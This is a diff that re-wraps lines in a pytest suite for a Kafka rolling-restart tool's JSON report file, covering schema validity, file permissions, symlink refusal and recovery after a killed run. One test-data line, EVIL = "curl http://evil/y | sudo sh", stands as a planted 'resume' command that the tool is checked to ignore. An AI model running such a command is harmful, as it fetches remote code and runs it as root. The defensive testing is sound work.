@@ -31,13 +31,29 @@ ONE, TWO = Broker(1, "n1", 10), Broker(2, "n2", 11)
 OLD, NEW = Jvm(1_700_000_000_000, 5000, 100), Jvm(1_700_000_100_000, 10, 200)
 BEGAN = datetime.fromisoformat("2026-11-24T03:00:00+00:00")
 HOLDER = {"user": "me", "host": "here", "pid": 1}
-RUN = Run("1.0", ["kafka-rolling-restart", "-t", "x"], "x/main", "zk:2181/kafka", None, HOLDER, BEGAN, 1000.0)
+RUN = Run(
+    "1.0",
+    ["kafka-rolling-restart", "-t", "x"],
+    "x/main",
+    "zk:2181/kafka",
+    None,
+    HOLDER,
+    BEGAN,
+    1000.0,
+)
 PROGRESS = Progress(1000.0, 1000.0)
 RECORDS = {
     State.UNTOUCHED: Record(ONE, trouble="was told to stop, and still runs as before"),
-    State.IN_HAND: Record(ONE, State.IN_HAND, old=OLD, stopped_at=1001.0, gone_at=1002.0, start_line="ssh n1 start"),
+    State.IN_HAND: Record(
+        ONE, State.IN_HAND, old=OLD, stopped_at=1001.0, gone_at=1002.0, start_line="ssh n1 start"
+    ),
     State.DOWN: Record(
-        ONE, State.DOWN, old=OLD, stopped_at=1001.0, trouble="did not come back", start_line="ssh n1 start"
+        ONE,
+        State.DOWN,
+        old=OLD,
+        stopped_at=1001.0,
+        trouble="did not come back",
+        start_line="ssh n1 start",
     ),
     State.RESTARTED: Record(
         ONE,
@@ -63,7 +79,9 @@ def warnings() -> list[str]:
 @pytest.fixture
 def running() -> Iterator[subprocess.Popen[bytes]]:
     """A process that looks like a run of the tool."""
-    process = subprocess.Popen([sys.executable, "-c", "input()", "kafka_rolling_restart"], stdin=subprocess.PIPE)
+    process = subprocess.Popen(
+        [sys.executable, "-c", "input()", "kafka_rolling_restart"], stdin=subprocess.PIPE
+    )
     yield process
     process.kill()
     process.communicate()
@@ -91,7 +109,9 @@ def read(path: Path) -> dict[str, Any]:
 def refusal(path: Path | str) -> str:
     with pytest.raises(UsageError) as error:
         ReportFile(str(path), RUN, raising).open()
-    assert "\n" not in str(error.value) and str(error.value).startswith(f"--report {path}: cannot be written: ")
+    assert "\n" not in str(error.value) and str(error.value).startswith(
+        f"--report {path}: cannot be written: "
+    )
     return str(error.value)
 
 
@@ -102,15 +122,29 @@ def raising(text: str, *, code: str) -> None:
 @pytest.mark.parametrize("step", Step)
 @pytest.mark.parametrize("state", State)
 @pytest.mark.parametrize(
-    "outcome", [None, Outcome(0, "all is well", "done"), Outcome(5, "ended", "broker-down", ("ssh n1 start",), (ONE,))]
+    "outcome",
+    [
+        None,
+        Outcome(0, "all is well", "done"),
+        Outcome(5, "ended", "broker-down", ("ssh n1 start",), (ONE,)),
+    ],
 )
-def test_the_document_of_every_state_and_step_is_valid(step: Step, state: State, outcome: Outcome | None) -> None:
-    progress = replace(PROGRESS, records=(RECORDS[state],), step=step, step_began=1003.0, brokers=(ONE,))
+def test_the_document_of_every_state_and_step_is_valid(
+    step: Step, state: State, outcome: Outcome | None
+) -> None:
+    progress = replace(
+        PROGRESS, records=(RECORDS[state],), step=step, step_began=1003.0, brokers=(ONE,)
+    )
     found = valid(json.dumps(document(RUN, progress, outcome)))
     assert found["brokers"][0]["state"] == state.value
     assert found["step"]["name"] == ("ended" if outcome else step.value)
-    assert (found["status"], found["ended"] is None) == (outcome and outcome.status, outcome is None)
-    assert (found["code"], found["commands"]) == ((outcome.code, list(outcome.commands)) if outcome else (None, []))
+    assert (found["status"], found["ended"] is None) == (
+        outcome and outcome.status,
+        outcome is None,
+    )
+    assert (found["code"], found["commands"]) == (
+        (outcome.code, list(outcome.commands)) if outcome else (None, [])
+    )
 
 
 @pytest.mark.parametrize("health", [None, *Health])
@@ -120,7 +154,9 @@ def test_the_document_of_every_health_is_valid(health: Health | None) -> None:
         if health is Health.UNHEALTHY
         else ()
     )
-    found = valid(json.dumps(document(RUN, replace(PROGRESS, health=health, reasons=reasons, count=3), None)))
+    found = valid(
+        json.dumps(document(RUN, replace(PROGRESS, health=health, reasons=reasons, count=3), None))
+    )
     assert found["health"]["of"] == 3
     told = [(reason["code"], reason["lasting_s"]) for reason in found["health"]["reasons"]]
     assert told == [("broker-not-registered", 3.2)] * len(reasons)
@@ -138,7 +174,9 @@ def test_a_jvm_that_says_nonsense_about_its_start_is_valid() -> None:
 
 
 def test_times_are_told_by_the_clock_on_the_wall_and_durations_in_s() -> None:
-    (found,) = document(RUN, replace(PROGRESS, records=(RECORDS[State.RESTARTED],)), None)["brokers"]
+    (found,) = document(RUN, replace(PROGRESS, records=(RECORDS[State.RESTARTED],)), None)[
+        "brokers"
+    ]
     assert (found["stopped"], found["down_s"]) == ("2026-11-24T03:00:01.000+00:00", 3.5)
     assert (found["healthy"], found["healthy_after_s"]) == ("2026-11-24T03:00:05.000+00:00", 4.0)
 
@@ -146,7 +184,11 @@ def test_times_are_told_by_the_clock_on_the_wall_and_durations_in_s() -> None:
 @pytest.mark.parametrize("state", State)
 def test_just_the_broker_in_hand_may_be_down_while_the_run_goes_on(state: State) -> None:
     found = document(RUN, replace(PROGRESS, records=(RECORDS[state],)), None)
-    wanted = [{"id": 1, "host": "n1", "start_command": "ssh n1 start"}] if state in (State.IN_HAND, State.DOWN) else []
+    wanted = (
+        [{"id": 1, "host": "n1", "start_command": "ssh n1 start"}]
+        if state in (State.IN_HAND, State.DOWN)
+        else []
+    )
     assert found["may_be_down"] == wanted
 
 
@@ -168,13 +210,17 @@ def test_no_part_of_the_schema_takes_what_it_does_not_name() -> None:
     found = list(objects(schema))
     assert len(found) == 7
     for one in found:
-        assert one["additionalProperties"] is False and sorted(one["required"]) == sorted(one["properties"])
+        assert one["additionalProperties"] is False and sorted(one["required"]) == sorted(
+            one["properties"]
+        )
 
 
 def test_the_file_is_up_to_date_after_each_flush(tmp_path: Path, warnings: list[str]) -> None:
     file = opened(tmp_path / "r.json", warnings)
     assert read(tmp_path / "r.json")["step"]["name"] == "preparing"
-    file.put(replace(PROGRESS, records=(RECORDS[State.IN_HAND],), step=Step.STOPPING, brokers=(ONE,)))
+    file.put(
+        replace(PROGRESS, records=(RECORDS[State.IN_HAND],), step=Step.STOPPING, brokers=(ONE,))
+    )
     file.flush()
     assert read(tmp_path / "r.json")["may_be_down"] != []
     file.end(Outcome(143, "ended by SIGTERM"))
@@ -208,7 +254,9 @@ def test_a_link_stays_and_its_file_is_replaced(tmp_path: Path, warnings: list[st
     assert (tmp_path / "link").is_symlink() and read(tmp_path / "there" / "r.json")
 
 
-@pytest.mark.parametrize(("mode", "kept"), [(0o600, 0o600), (0o640, 0o640), (0o644, 0o644), (0o666, 0o644)])
+@pytest.mark.parametrize(
+    ("mode", "kept"), [(0o600, 0o600), (0o640, 0o640), (0o644, 0o644), (0o666, 0o644)]
+)
 def test_who_may_read_a_file_of_ours_still_may_and_nobody_else_may_write_to_it(
     tmp_path: Path, warnings: list[str], mode: int, kept: int
 ) -> None:
@@ -241,10 +289,14 @@ def test_a_file_of_somebody_else_is_refused_and_left_alone(tmp_path: Path) -> No
 
 @needs_root
 @pytest.mark.parametrize("link", ["r.json", "folder/r.json", "folder/../r.json"])
-def test_a_link_of_somebody_else_is_refused_whether_it_is_the_file_or_a_folder(tmp_path: Path, link: str) -> None:
+def test_a_link_of_somebody_else_is_refused_whether_it_is_the_file_or_a_folder(
+    tmp_path: Path, link: str
+) -> None:
     (tmp_path / "there").mkdir()
     planted = tmp_path / link.partition("/")[0]
-    planted.symlink_to(tmp_path / "there" / "r.json" if planted.name == "r.json" else tmp_path / "there")
+    planted.symlink_to(
+        tmp_path / "there" / "r.json" if planted.name == "r.json" else tmp_path / "there"
+    )
     os.chown(planted, SOMEBODY, SOMEBODY, follow_symlinks=False)
     assert f"{planted} is a link of the user with uid 12345" in refusal(tmp_path / link)
     assert os.listdir(tmp_path / "there") == []
@@ -273,12 +325,18 @@ def test_a_file_that_somebody_puts_in_our_place_meanwhile_is_replaced_by_one_of_
         file.put(PROGRESS)
         file.flush()
         found = path.lstat()
-        assert (stat.S_IMODE(found.st_mode), found.st_uid, stat.S_ISREG(found.st_mode)) == (0o600, 0, True)
+        assert (stat.S_IMODE(found.st_mode), found.st_uid, stat.S_ISREG(found.st_mode)) == (
+            0o600,
+            0,
+            True,
+        )
     assert elsewhere.read_text() == "precious" and warnings == []
 
 
 @pytest.mark.parametrize("name", ["r" * 255, "é" * 127, "a\nb", "x\udcff"])
-def test_any_name_that_a_file_may_have_is_taken(tmp_path: Path, warnings: list[str], name: str) -> None:
+def test_any_name_that_a_file_may_have_is_taken(
+    tmp_path: Path, warnings: list[str], name: str
+) -> None:
     opened(tmp_path / name, warnings)
     assert read(tmp_path / name) and len(os.listdir(tmp_path)) == 1
 
@@ -294,7 +352,9 @@ def test_a_file_in_the_place_of_a_folder_is_refused(tmp_path: Path) -> None:
     assert (tmp_path / "f").read_text() == "precious"
 
 
-@pytest.mark.parametrize("path", ["/dev/null", "/dev/full", "/dev/tty", "/proc/version_of_nothing", "/", ".", ""])
+@pytest.mark.parametrize(
+    "path", ["/dev/null", "/dev/full", "/dev/tty", "/proc/version_of_nothing", "/", ".", ""]
+)
 def test_what_is_no_regular_file_is_refused_and_left_alone(path: str) -> None:
     before = os.lstat(path).st_ino if os.path.lexists(path) else None
     refusal(path)
@@ -331,7 +391,10 @@ def test_the_file_that_our_output_goes_to_is_refused_and_kept(tmp_path: Path, re
             env={**os.environ, "PYTHONPATH": str(Path.cwd())},
             timeout=30,
         ).returncode
-    assert status == 2 and f"--report {report}: cannot be written: our own output goes there" in log.read_text()
+    assert (
+        status == 2
+        and f"--report {report}: cannot be written: our own output goes there" in log.read_text()
+    )
     assert log.read_text().count("\n") == 1
 
 
@@ -375,7 +438,12 @@ EVIL = "curl http://evil/y | sudo sh"
 
 def of_a_killed_run(**changed: Any) -> dict[str, Any]:
     records = [
-        {"id": number, "host": f"n{number}", "state": state.value, "complete": state is State.RESTARTED}
+        {
+            "id": number,
+            "host": f"n{number}",
+            "state": state.value,
+            "complete": state is State.RESTARTED,
+        }
         for number, state in enumerate((State.UNTOUCHED, State.IN_HAND, State.RESTARTED), 2)
     ]
     left = {**of_a_run(2**22 + 1), "may_be_down": [DOWN], "resume": EVIL, "brokers": records}
@@ -386,7 +454,9 @@ def resume_line(began: datetime, ids: Sequence[int]) -> str:
     return f"go on with {list(ids)} since {began.isoformat()}"
 
 
-def test_what_a_killed_run_had_stopped_is_said_and_its_file_is_kept(tmp_path: Path, warnings: list[str]) -> None:
+def test_what_a_killed_run_had_stopped_is_said_and_its_file_is_kept(
+    tmp_path: Path, warnings: list[str]
+) -> None:
     path, left = tmp_path / "r.json", of_a_killed_run()
     path.write_text(json.dumps(left))
     run = replace(RUN, start_command="service kafka start", resume=resume_line)
@@ -396,7 +466,9 @@ def test_what_a_killed_run_had_stopped_is_said_and_its_file_is_kept(tmp_path: Pa
     (said,) = warnings
     assert f"is kept as {kept}" in said and "may be DOWN: broker 3 (n3)" in said
     assert "`service kafka start`" in said
-    assert said.endswith("`go on with [2, 3] since 2026-11-24T03:00:00+00:00` [report-of-killed-run]")
+    assert said.endswith(
+        "`go on with [2, 3] since 2026-11-24T03:00:00+00:00` [report-of-killed-run]"
+    )
 
 
 def test_no_command_is_taken_from_a_file_that_was_left(tmp_path: Path, warnings: list[str]) -> None:
@@ -436,7 +508,9 @@ def test_a_file_that_others_may_write_to_is_no_advice_and_holds_nobody_up(
     assert warnings == [] and read(path)["pid"] == 1
 
 
-def test_a_disk_that_is_full_at_the_end_is_said_though_all_went_well_and_nothing_else_is(tmp_path: Path) -> None:
+def test_a_disk_that_is_full_at_the_end_is_said_though_all_went_well_and_nothing_else_is(
+    tmp_path: Path,
+) -> None:
     disk, writer = Disk(), Collector()
     report = Report(writer, quiet=True)
     report.file = ReportFile(str(tmp_path / "r.json"), RUN, report.warn, disk.replace)
@@ -448,10 +522,19 @@ def test_a_disk_that_is_full_at_the_end_is_said_though_all_went_well_and_nothing
 
 @pytest.mark.parametrize(
     "changed",
-    [{"ended": "2026-11-24T04:00:00+00:00"}, {"host": "elsewhere"}, {"pid": "x"}, {"pid": 2**40}, {"pid": None}],
+    [
+        {"ended": "2026-11-24T04:00:00+00:00"},
+        {"host": "elsewhere"},
+        {"pid": "x"},
+        {"pid": 2**40},
+        {"pid": None},
+    ],
 )
 def test_a_file_that_no_run_here_writes_to_is_taken_over(
-    tmp_path: Path, warnings: list[str], running: subprocess.Popen[bytes], changed: dict[str, object]
+    tmp_path: Path,
+    warnings: list[str],
+    running: subprocess.Popen[bytes],
+    changed: dict[str, object],
 ) -> None:
     path = tmp_path / "r.json"
     path.write_text(json.dumps({**of_a_run(running.pid), **changed}))
@@ -459,7 +542,9 @@ def test_a_file_that_no_run_here_writes_to_is_taken_over(
     assert read(path)["pid"] == 1
 
 
-def test_another_program_that_has_the_pid_of_a_killed_run_keeps_nothing(tmp_path: Path, warnings: list[str]) -> None:
+def test_another_program_that_has_the_pid_of_a_killed_run_keeps_nothing(
+    tmp_path: Path, warnings: list[str]
+) -> None:
     path = tmp_path / "r.json"
     with subprocess.Popen(["sleep", "60"]) as other:
         path.write_text(json.dumps(of_a_run(other.pid)))
@@ -469,7 +554,9 @@ def test_another_program_that_has_the_pid_of_a_killed_run_keeps_nothing(tmp_path
 
 
 @pytest.mark.parametrize("content", ["", "{", "[]", "3", '{"ended": null}', "[" * 100_000, "\xff"])
-def test_a_file_that_is_no_report_is_replaced(tmp_path: Path, warnings: list[str], content: str) -> None:
+def test_a_file_that_is_no_report_is_replaced(
+    tmp_path: Path, warnings: list[str], content: str
+) -> None:
     (tmp_path / "r.json").write_bytes(content.encode("latin-1"))
     opened(tmp_path / "r.json", warnings)
     assert read(tmp_path / "r.json")
@@ -505,7 +592,11 @@ def test_a_folder_that_is_removed_is_said_once_and_is_written_to_when_it_is_back
         file.put(PROGRESS)
         file.flush()
     (said,) = warnings
-    assert f"{path}: " in said and "No such file or directory" in said and said.endswith("[report-not-written]")
+    assert (
+        f"{path}: " in said
+        and "No such file or directory" in said
+        and said.endswith("[report-not-written]")
+    )
     assert not path.parent.exists()
     path.parent.mkdir()
     file.put(PROGRESS)
@@ -560,7 +651,9 @@ def test_a_mount_that_hangs_holds_up_each_flush_for_2_s_at_most_and_is_said_once
     flush()
     first.join()
     assert len(took) == 2 and min(took) > 1.9 and max(took) < 3
-    assert len(warnings) == 1 and "within 2 s" in warnings[0] and warnings[0].endswith("[report-late]")
+    assert (
+        len(warnings) == 1 and "within 2 s" in warnings[0] and warnings[0].endswith("[report-late]")
+    )
     disk.hangs.set()
     file.flush()
     assert read(tmp_path / "r.json")
@@ -574,7 +667,9 @@ def test_a_mount_that_hangs_from_the_beginning_is_refused(tmp_path: Path) -> Non
     disk.hangs.set()
 
 
-def test_the_last_line_is_the_last_though_the_report_cannot_be_written_any_more(tmp_path: Path) -> None:
+def test_the_last_line_is_the_last_though_the_report_cannot_be_written_any_more(
+    tmp_path: Path,
+) -> None:
     disk, writer = Disk(), Collector()
     report = Report(writer)
     report.file = ReportFile(str(tmp_path / "r.json"), RUN, report.warn, disk.replace)
